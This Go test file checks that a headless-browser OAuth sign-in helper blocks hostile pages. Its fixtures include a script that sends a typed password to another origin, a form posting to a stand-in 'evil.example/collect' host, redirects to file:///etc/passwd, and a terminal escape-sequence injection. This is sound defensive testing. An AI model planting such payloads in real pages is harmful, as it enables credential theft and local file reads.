package browser

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

const (
	hostilePW       = "pw-S3cret!"
	hostileRedirect = "https://app.pacheck.invalid/cb"
)

// listener records every request another origin receives (it must receive none of a blocked
// sign-in's requests, least of all the password).
type listener struct {
	mu   sync.Mutex
	seen []string
}

func (l *listener) handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		l.mu.Lock()
		l.seen = append(l.seen, r.Method+" "+r.URL.String()+" "+r.PostForm.Encode())
		l.mu.Unlock()
		// As an identity provider on an allowed origin: an approve button that ends the sign-in.
		fmt.Fprintf(w, `<!doctype html><body><button id=ok onclick="location='%s'">Allow</button></body>`, hostileRedirect+"?code=IDP-1&state=s")
	})
}

func (l *listener) take() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	s := l.seen
	l.seen = nil
	return s
}

const loginForm = `<form id=f method=post action=%q><input name=user id=user><input type=password name=password id=pw><button type=submit>Sign in</button></form>`

// hostileServer serves the hostile pages; other is the origin they try to reach.
func hostileServer(t *testing.T, other string, started chan<- string) *httptest.Server {
	stop := make(chan struct{})
	mux := http.NewServeMux()
	page := func(path, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "<!doctype html><body>"+body+"</body>") })
	}
	allow := fmt.Sprintf(`<button id=ok onclick="location='%s'">Allow</button>`, hostileRedirect+"?code=C-1&state=s")
	page("/login-post-other", fmt.Sprintf(loginForm, other+"/collect"))
	page("/js-other", fmt.Sprintf(loginForm, "/never")+`<script>document.getElementById('f').onsubmit = e => { e.preventDefault();
		location = `+fmt.Sprintf("%q", other+"/steal?pw=")+` + encodeURIComponent(document.getElementById('pw').value); };</script>`)
	page("/js-file", fmt.Sprintf(loginForm, "/never")+`<script>document.getElementById('f').onsubmit = e => { e.preventDefault(); location = 'file:///etc/passwd'; };</script>`)
	page("/alerts", `<script>for (;;) { alert('hi'); confirm('sure?'); }</script>`)
	page("/alert-once", "<script>alert('Welcome\\u001b]0;pwned\\u0007 member')</script>"+allow)
	page("/frame-other", fmt.Sprintf(`<iframe src=%q></iframe>`, other+"/frame")+allow)
	mux.HandleFunc("/redirect-other", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, other+"/login", http.StatusFound) })
	mux.HandleFunc("/redirect-file", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "file:///etc/passwd", http.StatusFound)
	})
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) {
		// Starts a page and never finishes it.
		fmt.Fprint(w, "<!doctype html><body><p>Loading")
		w.(http.Flusher).Flush()
		if started != nil {
			select {
			case started <- r.URL.Path:
			default:
			}
		}
		select {
		case <-r.Context().Done():
		case <-stop:
		}
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(stop) }) // runs first: releases /slow
	return srv
}

func TestHostilePages(t *testing.T) {
	if _, err := FindChromium(""); err != nil {
		t.Skipf("skipping browser test: %v", err)
	}
	other := &listener{}
	osrv := httptest.NewServer(other.handler())
	defer osrv.Close()
	srv := hostileServer(t, osrv.URL, nil)
	evDir := filepath.Join(t.TempDir(), "evidence")
	base := Options{EvidenceDir: evDir, StepTimeout: 8 * time.Second, Timeout: 30 * time.Second,
		Credentials: Credentials{Username: "alice", Password: hostilePW}}
	shared := launch(t, base)

	cases := []struct {
		name      string
		url       string
		opts      func(*Options) // a browser of its own with these options
		wantIs    error          // nil: the sign-in succeeds
		wantInErr []string
		// otherMay: the other origin is allowed, so it may be reached
		otherMay  bool
		wantInEv  []string
		noPageNav bool // refused before anything was opened
	}{
		{name: "login form posts to another origin", url: srv.URL + "/login-post-other", wantIs: ErrBlocked,
			wantInErr: []string{osrv.URL + "/collect", "add " + osrv.URL + " to auth.allowed_origins", "step navigation policy"}},
		{name: "redirect to another origin", url: srv.URL + "/redirect-other", wantIs: ErrBlocked,
			wantInErr: []string{osrv.URL + "/login", "auth.allowed_origins"}},
		{name: "script sends the password to another origin", url: srv.URL + "/js-other", wantIs: ErrBlocked,
			wantInErr: []string{osrv.URL + "/steal", "auth.allowed_origins"}},
		{name: "redirect to a local file", url: srv.URL + "/redirect-file", wantIs: ErrBlocked, wantInErr: []string{"file: URL"}},
		{name: "script navigates to a local file", url: srv.URL + "/js-file", wantIs: ErrNoProgress},
		{name: "alert and confirm loop", url: srv.URL + "/alerts", wantIs: ErrDialogs,
			wantInErr: []string{`JavaScript alert dialog: "hi"`, "MaxDialogs", "step JavaScript dialogs"}},
		{name: "one alert is dismissed and reported", url: srv.URL + "/alert-once",
			wantInEv: []string{`the page opened a JavaScript alert dialog: "Welcome]0;pwned member"`}},
		{name: "frame from another origin is blocked, the sign-in goes on", url: srv.URL + "/frame-other",
			wantInEv: []string{"refused a frame " + osrv.URL + "/frame"}},
		{name: "another origin that is allowed", url: srv.URL + "/redirect-other", otherMay: true,
			opts: func(o *Options) { o.AllowedOrigins = []string{osrv.URL + "/"} }},
		{name: "data: authorization endpoint", url: "data:text/html,<form><input type=password></form>", wantIs: ErrBlocked,
			wantInErr: []string{"data:text/html,…", "nothing was opened"}, noPageNav: true},
		{name: "file: authorization endpoint", url: "file:///etc/passwd", wantIs: ErrBlocked,
			wantInErr: []string{"file:///etc/passwd", "smart-configuration"}, noPageNav: true},
		{name: "javascript: authorization endpoint", url: "javascript:alert(1)", wantIs: ErrBlocked, noPageNav: true},
		{name: "http authorization endpoint of an https server", url: srv.URL + "/alert-once", wantIs: ErrBlocked,
			wantInErr: []string{"plain http"}, noPageNav: true, opts: func(o *Options) { o.Target = "https://fhir.example.org/r4" }},
		{name: "page never finishes loading", url: srv.URL + "/slow", wantIs: context.DeadlineExceeded,
			wantInErr: []string{srv.URL + "/slow", "the step's time limit of 2s ran out"},
			opts:      func(o *Options) { o.StepTimeout = 2 * time.Second }},
		{name: "sign-in deadline", url: srv.URL + "/slow", wantIs: context.DeadlineExceeded,
			wantInErr: []string{srv.URL + "/slow", "the sign-in's time limit of 2s"},
			opts:      func(o *Options) { o.Timeout = 2 * time.Second; o.StepTimeout = time.Minute }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			other.take()
			b := shared
			if tc.opts != nil {
				o := base
				tc.opts(&o)
				b = launch(t, o)
			}
			res, err := b.Authorize(context.Background(), tc.url, hostileRedirect, nil)
			switch {
			case tc.wantIs == nil && err != nil:
				t.Fatalf("want success, got %v", err)
			case tc.wantIs == nil:
				if res.Query.Get("code") == "" {
					t.Errorf("no code in %q", res.RedirectURL)
				}
			case !errors.Is(err, tc.wantIs):
				t.Fatalf("want %v, got %v", tc.wantIs, err)
			}
			if err != nil {
				msg := err.Error()
				for _, w := range tc.wantInErr {
					if !strings.Contains(msg, w) {
						t.Errorf("error lacks %q: %s", w, msg)
					}
				}
				if strings.HasSuffix(msg, ": context deadline exceeded") && !strings.Contains(msg, "time limit") {
					t.Errorf("bare deadline error: %s", msg)
				}
				if strings.Contains(msg, hostilePW) {
					t.Errorf("password in the error: %s", msg)
				}
			}
			if seen := other.take(); len(seen) > 0 && !tc.otherMay {
				t.Errorf("the other origin received %q", seen)
			} else if tc.otherMay && len(seen) == 0 {
				t.Error("the allowed other origin was never reached")
			}
			var all strings.Builder
			if res != nil {
				for _, e := range res.Evidence {
					all.WriteString(e.Title + "\n" + e.Text + "\n")
					if e.Screenshot != nil && !strings.HasPrefix(e.Screenshot.URL, srv.URL) && !(tc.otherMay && strings.HasPrefix(e.Screenshot.URL, osrv.URL)) {
						t.Errorf("screenshot of %q", e.Screenshot.URL)
					}
					if tc.noPageNav && (e.Screenshot != nil || strings.HasPrefix(e.Title, "page ")) {
						t.Errorf("refused endpoint was opened: %s %s", e.Title, e.Text)
					}
				}
			}
			ev := all.String()
			for _, w := range tc.wantInEv {
				if !strings.Contains(ev, w) {
					t.Errorf("evidence lacks %q:\n%s", w, ev)
				}
			}
			if strings.Contains(ev, hostilePW) || strings.Contains(ev, "root:") || strings.ContainsAny(ev, "\x1b\x07") {
				t.Errorf("secret, file content or control character in evidence:\n%q", ev)
			}
		})
	}
}

func TestPolicy(t *testing.T) {
	p := newPolicy(mustURL(t, "https://as.example.org/authorize"), mustURL(t, "http://localhost/cb"), []string{"https://idp.example.org:8443"})
	cases := []struct {
		u       string
		ok      bool
		inError string
	}{
		{"https://as.example.org/login?x=1", true, ""},
		{"https://AS.example.org:443/login", true, ""},
		{"http://localhost:80/cb?code=1", true, ""},
		{"https://idp.example.org:8443/sso", true, ""},
		{"about:blank", true, ""},
		{"http://as.example.org/login", false, "add http://as.example.org to auth.allowed_origins"},
		{"https://idp.example.org/sso", false, "https://idp.example.org is not one of"},
		{"https://evil.example/collect?password=hunter2", false, "blocked https://evil.example/collect:"},
		{"file:///etc/passwd", false, "not file: URLs"},
		{"data:text/html,<b>x</b>", false, "blocked data:text/html,…"},
		{"javascript:alert(1)", false, "not javascript: URLs"},
		{"chrome://settings", false, "not chrome: URLs"},
		{"about:srcdoc", false, "not about: URLs"},
	}
	for _, tc := range cases {
		pe := p.check(tc.u)
		if (pe == nil) != tc.ok {
			t.Errorf("check(%q) = %v, want ok %v", tc.u, pe, tc.ok)
			continue
		}
		if pe != nil {
			if !strings.Contains(pe.Error(), tc.inError) || strings.Contains(pe.Error(), "hunter2") || !errors.Is(pe, ErrBlocked) {
				t.Errorf("check(%q) = %q, want it to contain %q", tc.u, pe.Error(), tc.inError)
			}
		}
	}
	origins := []struct{ in, want, err string }{
		{"https://IdP.example.org/", "https://idp.example.org", ""},
		{"http://127.0.0.1:8080", "http://127.0.0.1:8080", ""},
		{"https://x.org:443", "https://x.org", ""},
		{"https://x.org/path", "", "not an origin"},
		{"ftp://x.org", "", "not an origin"},
		{"x.org", "", "not an origin"},
		{"https://user@x.org", "", "not an origin"},
	}
	for _, tc := range origins {
		got, err := NormalizeOrigin(tc.in)
		if got != tc.want || (tc.err == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.err)) {
			t.Errorf("NormalizeOrigin(%q) = %q, %v", tc.in, got, err)
		}
	}
	if _, err := Launch(context.Background(), Options{ExecPath: "/bin/true", AllowedOrigins: []string{"idp.example.org"}}); err == nil || !strings.Contains(err.Error(), "AllowedOrigins[0]") {
		t.Errorf("bad allowed origin accepted: %v", err)
	}
	redact := []struct{ in, want string }{
		{"https://u:p@x.org/a/b?password=1#frag", "https://x.org/a/b"},
		{"data:text/html;base64,PGI+,more", "data:text/html;base64,…"},
		{"file:///etc/passwd", "file:///etc/passwd"},
		{"https://x.org/\x1b[2Jpath", "https://x.org/%5B2Jpath"},
	}
	for _, tc := range redact {
		if got := redactURL(tc.in); got != tc.want {
			t.Errorf("redactURL(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	vet := []struct{ u, target, err string }{
		{"https://as.example.org/authorize?x=1", "https://fhir.example.org", ""},
		{"http://127.0.0.1:1/authorize", "http://127.0.0.1:2/fhir", ""},
		{"http://as.example.org/authorize", "https://fhir.example.org", "plain http"},
		{"file:///etc/passwd", "", "file: URL"},
		{"/authorize", "", "not an absolute URL"},
		{"https:///authorize", "", "no host"},
	}
	for _, tc := range vet {
		_, err := vetAuthorizeURL(tc.u, tc.target)
		if (tc.err == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.err)) {
			t.Errorf("vetAuthorizeURL(%q, %q) = %v", tc.u, tc.target, err)
		}
	}
	if u, _ := vetAuthorizeURL("https://user:pw@as.example.org/a", ""); u == nil || u.User != nil {
		t.Errorf("userinfo kept: %v", u)
	}
}

// TestNothingLeftBehind: after a browser closes, on every path, nothing new is in TMPDIR or HOME.
func TestNothingLeftBehind(t *testing.T) {
	if _, err := FindChromium(""); err != nil {
		t.Skipf("skipping browser test: %v", err)
	}
	tmp, home := t.TempDir(), t.TempDir()
	t.Setenv("TMPDIR", tmp)
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("XDG_CACHE_HOME", "")
	started := make(chan string, 1)
	srv := hostileServer(t, "http://127.0.0.1:1", started)
	workDir := filepath.Join(tmp, "report")

	signIn := func(b *Browser, ctx context.Context) error {
		_, err := b.Authorize(ctx, srv.URL+"/alert-once", hostileRedirect, nil)
		return err
	}
	cases := []struct {
		name string
		opts Options
		run  func(t *testing.T, opts Options)
	}{
		{name: "sign-in then Close", run: func(t *testing.T, opts Options) {
			b, err := Launch(context.Background(), opts)
			if err != nil {
				t.Fatal(err)
			}
			if err := signIn(b, context.Background()); err != nil {
				t.Error(err)
			}
			if err := b.Close(); err != nil {
				t.Error(err)
			}
		}},
		{name: "inside WorkDir", opts: Options{WorkDir: workDir}, run: func(t *testing.T, opts Options) {
			b, err := Launch(context.Background(), opts)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(b.DataDir(), workDir+string(filepath.Separator)) {
				t.Errorf("data dir %s not in WorkDir", b.DataDir())
			}
			if err := signIn(b, context.Background()); err != nil {
				t.Error(err)
			}
			b.Close()
		}},
		{name: "launch with a cancelled context", run: func(t *testing.T, opts Options) {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			if b, err := Launch(ctx, opts); err == nil {
				b.Close()
				t.Error("launch with a cancelled context succeeded")
			}
		}},
		{name: "sign-in cancelled by its caller", run: func(t *testing.T, opts Options) {
			b, err := Launch(context.Background(), opts)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			go func() { <-started; cancel() }()
			_, err = b.Authorize(ctx, srv.URL+"/slow", hostileRedirect, nil)
			if err == nil || !strings.Contains(err.Error(), "the caller ended the sign-in") {
				t.Errorf("got %v", err)
			}
			b.Close()
		}},
		{name: "CloseAll during a sign-in, then Close twice", run: func(t *testing.T, opts Options) {
			b, err := Launch(context.Background(), opts)
			if err != nil {
				t.Fatal(err)
			}
			closed := make(chan error, 1)
			go func() { <-started; closed <- CloseAll() }()
			if _, err := b.Authorize(context.Background(), srv.URL+"/slow", hostileRedirect, nil); err == nil || !strings.Contains(err.Error(), "the browser was closed during the sign-in") {
				t.Errorf("the sign-in survived CloseAll, or did not say why it ended: %v", err)
			}
			if err := <-closed; err != nil {
				t.Errorf("CloseAll: %v", err)
			}
			if err := b.Close(); err != nil {
				t.Errorf("second Close: %v", err)
			}
			if err := signIn(b, context.Background()); err == nil {
				t.Error("a closed browser signed in")
			}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			select {
			case <-started:
			default:
			}
			tc.opts.StepTimeout = 10 * time.Second
			tc.run(t, tc.opts)
			var left []string
			filepath.WalkDir(tmp, func(p string, d os.DirEntry, err error) error {
				if p != tmp && p != workDir {
					left = append(left, p)
				}
				return nil
			})
			filepath.WalkDir(home, func(p string, d os.DirEntry, err error) error {
				if p != home {
					left = append(left, p)
				}
				return nil
			})
			if len(left) > 0 {
				t.Errorf("left behind: %q", left)
			}
		})
	}
}

func mustURL(t *testing.T, s string) *url.URL {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return u
}
